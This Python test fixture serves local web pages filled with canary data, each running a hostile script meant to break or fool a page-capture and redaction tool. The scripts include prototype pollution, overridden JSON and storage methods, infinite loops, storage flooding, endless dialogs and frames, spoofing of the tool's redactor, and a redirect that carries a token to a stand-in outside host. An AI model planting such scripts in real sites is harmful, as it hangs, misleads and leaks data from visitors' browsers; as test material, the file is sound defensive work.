"""Pages that mean harm to whoever captures them, each full of canaries; and a server for them."""

from __future__ import annotations

import contextlib
import itertools
import json
import threading
from collections.abc import Iterator, Mapping
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import unquote, urlsplit

from kit.canaries import TEXTS

POLICY: dict[str, Any] = {
    "words": ["cart"],
    "stores": [{"name": "cart", "area": "session", "key": "cart", "rule": {"fields": {"owner": {}, "lines": {}}}}],
}

# Script by name: what a page does to who reads it. `canary` holds all canaries, `held` both storages.
DEEDS: Mapping[str, str] = {
    "nothing": "",
    "a liar for JSON": "JSON.stringify = () => canary.value; JSON.parse = () => canary;",
    "a liar for the storage": "Storage.prototype.getItem = () => canary.value; Storage.prototype.key = () => 'cart';",
    "getters that throw": "for (const name of ['sessionStorage', 'localStorage', 'indexedDB'])"
    " Object.defineProperty(window, name, { get() { throw new Error(canary.exception); } });",
    "a toJSON for all": "Object.prototype.toJSON = () => canary.value; Object.prototype.then = (f) => f(canary.value);",
    "liars in the prototypes": "for (const home of [Array, String, Map, Set, RegExp, Number, Promise])"
    " for (const name of Object.getOwnPropertyNames(home.prototype))"
    " try { if (name !== 'constructor') home.prototype[name] = () => canary.value; } catch {}",
    "a redactor of its own": "globalThis[Symbol.for('driftwright')] ="
    " { unchanged: () => true, capture: () => canary.value, redact: () => canary.value };",
    "an endless loop": "setTimeout(() => { for (;;); }, 300);",
    "an endless chain of promises": "setTimeout(() => { const on = () => Promise.resolve().then(on); on(); }, 300);",
    "a storage that never rests": "setInterval(() => held.forEach((one) => one.setItem('cart', JSON.stringify("
    "{ owner: canary.value + Math.random(), lines: [Math.random()] }))), 1);",
    "keys that come and go": "let n = 0; setInterval(() => { sessionStorage.removeItem('k' + n); n++;"
    " sessionStorage.setItem('k' + n, canary.value); }, 1);",
    "loads itself again": "setTimeout(() => location.reload(), 30);",
    "loads itself under another name": "setTimeout(() => { location.href = location.pathname + '?' +"
    " Math.random(); }, 30);",
    "goes elsewhere": "setTimeout(() => { location.href = 'http://elsewhere.example/?' + canary.token; }, 200);",
    "goes to a blank page": "setTimeout(() => { location.href = 'about:blank'; }, 200);",
    "dialogs without end": "setTimeout(() => { for (;;) { alert(canary.value); confirm(canary.mail);"
    " prompt(canary.phone); } }, 100);",
    "asks before it goes": "window.onbeforeunload = (event) => { event.preventDefault(); return canary.value; };",
    "windows upon windows": "setInterval(() => { try { window.open('about:blank#' + Math.random()); } catch {}"
    " }, 200);",
    "a download": "const a = document.createElement('a'); a.download = canary.title; a.href ="
    " URL.createObjectURL(new Blob([canary.value])); setTimeout(() => a.click(), 100);",
    "a full storage": "try { for (let n = 0; ; n++) localStorage.setItem('f' + n, canary.value.repeat(4000)); }"
    " catch {}",
    "ten thousand keys": "for (let n = 0; n < 10000; n++) sessionStorage.setItem(canary.key + n, canary.value);",
    "lists in lists": "sessionStorage.setItem('cart', '['.repeat(200000) + ']'.repeat(200000));",
    "a very long token": "sessionStorage.setItem('cart', JSON.stringify({ owner: 'a1B2'.repeat(300000) }));",
    "very many digits": "sessionStorage.setItem('cart', JSON.stringify({ owner: '1'.repeat(900000) + 'x' }));",
    "keys that look alike": "const made = {}; for (let n = 0; n < 60000; n++)"
    " made[`${1 + n % 31}.${1 + Math.floor(n / 31) % 12}.${1000 + Math.floor(n / 372)}`] = canary.value;"
    " sessionStorage.setItem('cart', JSON.stringify({ lines: made }));",
    "names of the prototype": 'sessionStorage.setItem(\'cart\', \'{"__proto__":{"owner":"\' + canary.token +'
    ' \'"},"constructor":["\' + canary.token + \'"],"toString":1}\');'
    " sessionStorage.setItem('__proto__', canary.value);",
    "marks of the redactor": "sessionStorage.setItem('cart', JSON.stringify("
    "{ owner: '\\x7f' + canary.token + ';', ['\\x7f!' + canary.key + ';']: '\\x7f#7391846205518;' }));",
    "halves of letters": "sessionStorage.setItem('cart', JSON.stringify({ owner: '\\ud800' + canary.value,"
    " '\\udfff': 1 }));",
    "a database that blocks": "const asked = indexedDB.open('cart', 1 + Date.now() % 1000);"
    " asked.onupgradeneeded = () => { const made = asked.result.createObjectStore(canary.key);"
    " const on = () => { made.get(1).onsuccess = on; }; on(); };",
    "a database of canaries": "const asked = indexedDB.open(canary.key, 1); asked.onupgradeneeded = () => {"
    " const made = asked.result.createObjectStore(canary.url); for (const one of Object.values(canary))"
    " made.put(one, one); };",
    "a loud console": "setInterval(() => { for (let n = 0; n < 50; n++) console.error(canary.value, canary); }, 5);",
    "errors without end": "setInterval(() => { Promise.reject(new TypeError(canary.exception)); throw new"
    " Error(canary.value); }, 5);",
    "another document": "setTimeout(() => { document.open(); document.write(canary.value); document.close(); }, 200);",
    "a long history": "setInterval(() => { try { history.pushState(canary, '', '?' + Math.random()); } catch {}"
    " }, 20);",
    "a hundred frames": "for (let n = 0; n < 100; n++) { const one = document.createElement('iframe');"
    " one.sandbox = 'allow-scripts'; one.srcdoc = '<script>for(let n=0;n<1e6;n++);</script>';"
    " document.body.append(one); }",
    "frames in frames": "if (window === top || location.hash.length < 6) { const one ="
    " document.createElement('iframe');"
    " one.src = location.pathname + location.hash + (location.hash ? '#' : '#f'); document.body?.append(one); }",
    "a debugger": "setInterval(() => { debugger; }, 10);",
    "closes itself": "setTimeout(() => window.close(), 200);",
    "prints itself": "setTimeout(() => window.print(), 100);",
    "much memory": "const kept = []; setInterval(() => { if (kept.length < 60) kept.push(new"
    " Array(100000).fill(canary.value + kept.length)); }, 20);",
}
# When it does it: as the page is read, when it has loaded, or from a frame of its own origin.
MOMENTS: Mapping[str, str] = {
    "at once": "DEED",
    "when loaded": "addEventListener('load', () => { DEED });",
    "in a frame": "if (window !== top) { DEED } else addEventListener('load', () => {"
    " const one = document.createElement('iframe'); one.src = location.pathname + '?in';"
    " document.body.append(one); });",
}
PAGES = tuple(itertools.product(DEEDS, MOMENTS))

_PAGE = """<!doctype html><meta charset="utf-8"><title></title><body><script>
const canary = CANARIES;
const held = [sessionStorage, localStorage];
document.title = canary.title;
document.cookie = "session=" + encodeURIComponent(canary.cookie);
for (const one of held) for (const [kind, text] of Object.entries(canary)) one.setItem(kind, text);
const cart = { owner: canary.value, lines: Object.values(canary), [canary.key]: canary };
sessionStorage.setItem("cart", JSON.stringify(cart));
SCRIPT
</script>"""


def path_of(deed: str, moment: str) -> str:
    """Return the path at which the server has that page."""
    return f"/{list(DEEDS).index(deed)}/{list(MOMENTS).index(moment)}"


class _Pages(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        parts = unquote(urlsplit(self.path).path).split("/")
        if parts[1] == "file":
            self._answer(b"canary", "application/octet-stream", "attachment; filename=lighthouse.bin")
            return
        if len(parts) != 3 or not parts[1].isdigit():
            self._answer(b"", "text/plain")
            return
        deed, moment = list(DEEDS.values())[int(parts[1])], list(MOMENTS.values())[int(parts[2])]
        texts = json.dumps(TEXTS).replace("<", "\\u003c")
        script = moment.replace("DEED", deed).replace("</script>", "<\\/script>")
        self._answer(_PAGE.replace("CANARIES", texts).replace("SCRIPT", script).encode(), "text/html; charset=utf-8")

    def _answer(self, body: bytes, kind: str, disposition: str = "inline") -> None:
        self.send_response(200)
        self.send_header("content-type", kind)
        self.send_header("content-disposition", disposition)
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        with contextlib.suppress(OSError):
            self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        """Say nothing."""


class _Quiet(ThreadingHTTPServer):
    daemon_threads = True

    def handle_error(self, request: Any, client_address: Any) -> None:
        """A browser that is ended leaves its requests."""


@contextlib.contextmanager
def hostile_site() -> Iterator[int]:
    """Serve the pages; give the port."""
    with _Quiet(("127.0.0.1", 0), _Pages) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server.server_address[1]
        server.shutdown()
